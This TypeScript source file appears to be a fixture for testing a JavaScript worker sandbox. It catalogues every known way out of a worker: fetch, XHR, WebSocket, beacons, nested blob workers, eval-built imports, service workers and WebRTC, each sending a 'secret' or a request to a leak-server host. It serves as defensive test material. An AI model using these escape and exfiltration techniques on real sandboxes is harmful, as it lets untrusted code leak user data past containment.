/**
 * Every way out of a worker that we know of, as plain script text: it runs as a reader's program and, as
 * the control, in a worker that nothing holds back.
 */

/** Names of everything that a browser gives a worker, even where Node's library has its own in their place. */
export const NATIVES = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'EventSource',
  'WebTransport',
  'RTCPeerConnection',
  'Worker',
  'SharedWorker',
  'importScripts',
  'navigator',
  'caches',
  'indexedDB',
  'cookieStore',
  'FontFace',
  'fonts',
  'BroadcastChannel',
  'WebAssembly',
  'Blob',
  'URL',
  'location',
  'postMessage',
  'Request',
  'Response',
  'createImageBitmap',
  'webkitRequestFileSystem',
  'webkitRequestFileSystemSync',
  'webkitResolveLocalFileSystemURL',
  'Notification',
  'setTimeout',
  'Promise',
  'MessageChannel',
  'open',
  'close',
  'fetchLater',
  'BackgroundFetchManager',
  'scheduler',
  'reportError',
  'Function',
  'performance',
] as const;

/**
 * A function of (natives, host, udpPort, site, log) as text. `natives` maps names to lists of candidates;
 * each attempt has a path of its own at the leak server. Resolves when all have been tried.
 */
export const WAYS_OUT = `async function waysOut(natives, host, udpPort, site, log) {
  const pause = (ms) => new Promise((resolve) => natives.setTimeout[0](resolve, ms));
  const limit = (work) => Promise.race([work, pause(700).then(() => 'no answer')]);
  const blob = (text, type = 'text/javascript') => natives.URL[0].createObjectURL(new natives.Blob[0]([text], { type }));
  let count = 0;
  const attempts = [];
  const way = (name, attempt) => attempts.push([name, attempt]);
  const each = (name, attempt) => natives[name].forEach((native, index) => way(name + ' ' + index, () => attempt(native, 'http://' + host + '/' + name + index)));

  for (const [place, origin] of [['leak', 'http://' + host], ['site', site]]) {
    const at = (path) => origin + '/way-out-' + place + '-' + path + '?' + (count += 1);
    natives.fetch.forEach((fetch, index) => {
      way('fetch ' + index, () => fetch(at('fetch')));
      way('fetch no-cors ' + index, () => fetch(at('no-cors'), { mode: 'no-cors', credentials: 'include' }));
      way('fetch keepalive ' + index, () => fetch(at('keepalive'), { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }));
      way('fetch navigate-like ' + index, () => fetch(at('redirect'), { redirect: 'follow', referrerPolicy: 'unsafe-url', cache: 'reload', mode: 'no-cors' }));
    });
    natives.XMLHttpRequest.forEach((Request) => {
      way('xhr', () => { const request = new Request(); request.open('GET', at('xhr'), false); request.send(); return request.status; });
      way('xhr async', () => new Promise((resolve) => { const request = new Request(); request.onloadend = () => resolve(request.status); request.open('POST', at('xhr-async')); request.send('secret'); }));
    });
    natives.WebSocket.forEach((Socket) => way('WebSocket', () => new Promise((resolve) => { const socket = new Socket(at('socket').replace('http', 'ws')); socket.onopen = () => resolve('open'); socket.onerror = () => resolve('error'); })));
    natives.WebSocketStream.forEach((Stream) => way('WebSocketStream', () => new Stream(at('socket-stream').replace('http', 'ws')).opened));
    natives.EventSource.forEach((Source) => way('EventSource', () => new Promise((resolve) => { const source = new Source(at('events')); source.onopen = source.onerror = (event) => { source.close(); resolve(event.type); }; })));
    natives.WebTransport.forEach((Transport) => way('WebTransport', () => new Transport(at('transport').replace('http:', 'https:')).ready));
    natives.importScripts.forEach((load) => way('importScripts', () => load(at('import-scripts'))));
    way('import', () => import(at('import')));
    way('import data', () => import('data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(at('import-data')))));
    way('import data fetch', () => import('data:text/javascript,' + encodeURIComponent('await fetch(' + JSON.stringify(at('import-data-fetch')) + ')')));
    way('import blob', () => import(blob('import ' + JSON.stringify(at('import-blob')))));
    way('import blob import()', () => import(blob('await import(' + JSON.stringify(at('import-blob-dynamic')) + ')')));
    way('import json', () => import(at('import-json'), { with: { type: 'json' } }));
    way('eval import', () => (0, eval)('import(' + JSON.stringify(at('eval-import')) + ')'));
    way('Function import', () => new Function('return import(' + JSON.stringify(at('function-import')) + ')')());
    way('source map', () => (0, eval)('0\\n//# sourceMappingURL=' + at('source-map')));
    const nested = (depth) => {
      const inner = [
        'try { fetch(' + JSON.stringify(at('nested-fetch')) + ', { mode: "no-cors" }).catch(() => {}) } catch {}',
        'try { importScripts(' + JSON.stringify(at('nested-import-scripts')) + ') } catch {}',
        'try { import(' + JSON.stringify(at('nested-import')) + ').catch(() => {}) } catch {}',
        'try { const r = new XMLHttpRequest(); r.open("GET", ' + JSON.stringify(at('nested-xhr')) + ', false); r.send() } catch {}',
        'try { new WebSocket(' + JSON.stringify(at('nested-socket').replace('http', 'ws')) + ') } catch {}',
        'try { new EventSource(' + JSON.stringify(at('nested-events')) + ') } catch {}',
        'try { new Worker(' + JSON.stringify(at('nested-worker')) + ') } catch {}',
      ];
      if (depth > 0) inner.push('try { new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(nested(depth - 1)) + ']))) } catch {}');
      return inner.join('\\n') + '\\nsetTimeout(() => postMessage("tried"), 400)';
    };
    natives.Worker.forEach((Worker) => {
      const run = (url, options) => new Promise((resolve) => { const worker = new Worker(url, options); worker.onmessage = () => resolve('ran'); worker.onerror = (event) => { event.preventDefault(); resolve('error'); }; });
      way('worker', () => run(at('worker')));
      way('worker module', () => run(at('worker-module'), { type: 'module' }));
      way('worker data', () => run('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(at('worker-data')) + ')')));
      way('worker blob', () => run(blob(nested(2))));
      way('worker blob module', () => run(blob('import ' + JSON.stringify(at('worker-blob-module'))), { type: 'module' }));
      way('worker blob module fetch', () => run(blob(nested(0)), { type: 'module' }));
    });
    natives.SharedWorker.forEach((Shared) => { way('shared worker', () => new Shared(at('shared-worker'))); way('shared worker blob', () => new Shared(blob('fetch(' + JSON.stringify(at('shared-worker-fetch')) + ')'))); });
    natives.navigator.forEach((navigator) => {
      way('sendBeacon', () => navigator.sendBeacon(at('beacon'), 'secret'));
      way('service worker', () => navigator.serviceWorker.register(at('service-worker')));
      way('protocol handler', () => navigator.registerProtocolHandler('web+leak', at('protocol')));
      way('background fetch', async () => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [at('background')]));
    });
    natives.caches.forEach((caches) => way('cache add', async () => (await caches.open('x')).add(at('cache'))));
    natives.FontFace.forEach((Face) => way('font', () => new Face('leak', 'url(' + at('font') + ')').load()));
    natives.WebAssembly.forEach((wasm) => way('wasm streaming', () => wasm.compileStreaming(natives.fetch[0](at('wasm'), { mode: 'no-cors' }))));
    natives.location.forEach((location) => { way('location', () => { location.href = at('location'); }); way('location assign', () => location.assign(at('assign'))); });
    natives.open.forEach((open) => way('open', () => open(at('open'))));
    natives.fetchLater.forEach((later) => way('fetchLater', () => later(at('later'), { activateAfter: 0 })));
    natives.webkitResolveLocalFileSystemURL.forEach((resolve) => way('file system url', () => resolve(at('filesystem'))));
  }
  natives.RTCPeerConnection.forEach((Peer) => way('webrtc', async () => {
    const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }, { urls: 'turn:' + host + '?transport=tcp', username: 'a', credential: 'b' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await pause(500);
  }));

  natives.indexedDB.forEach((database) => way('indexedDB', () => new Promise((resolve) => { const request = database.open('leaked'); request.onsuccess = () => resolve('opened'); request.onerror = () => resolve('error'); })));
  natives.cookieStore.forEach((store) => way('cookieStore', () => store.set('leaked', '1')));
  natives.navigator.forEach((navigator) => {
    way('storage directory', async () => (await navigator.storage.getDirectory()).getFileHandle('leaked', { create: true }));
    way('locks', () => navigator.locks.request('leaked', () => 'held'));
  });
  natives.caches.forEach((caches) => way('caches', async () => (await caches.open('leaked')).put('/x', new natives.Response[0]('x'))));
  natives.BroadcastChannel.forEach((Channel) => way('BroadcastChannel', () => new Channel('leaked').postMessage('hello')));
  for (const name of ['webkitRequestFileSystem', 'webkitRequestFileSystemSync']) natives[name].forEach((request) => way(name, () => request(0, 1024, () => {}, () => {})));
  natives.Notification.forEach((Note) => way('Notification', () => new Note('leaked')));

  for (const [name, attempt] of attempts) {
    let outcome;
    try { outcome = String(await limit(attempt())); } catch (error) { outcome = 'threw ' + (error && error.name); }
    log(name + ': ' + outcome.slice(0, 80));
  }
  await pause(800);
  log('attempts: ' + attempts.length);
}`;

/** Collects candidates from wherever a program may look, as an expression. */
export const COLLECT = `(() => {
  const natives = {};
  const scopes = [globalThis];
  for (let object = Object.getPrototypeOf(globalThis); object; object = Object.getPrototypeOf(object)) scopes.push(object);
  for (const name of ${JSON.stringify(NATIVES)}) {
    const found = new Set();
    for (const scope of [...scopes, globalThis.saved ?? {}]) {
      try {
        const descriptor = Object.getOwnPropertyDescriptor(scope, name);
        if (!descriptor) continue;
        const value = 'value' in descriptor ? descriptor.value : descriptor.get.call(globalThis);
        if (value !== undefined && value !== null) found.add(typeof value === 'function' && !value.prototype ? value.bind(globalThis) : value);
      } catch {}
    }
    natives[name] = [...found];
  }
  return natives;
})()`;
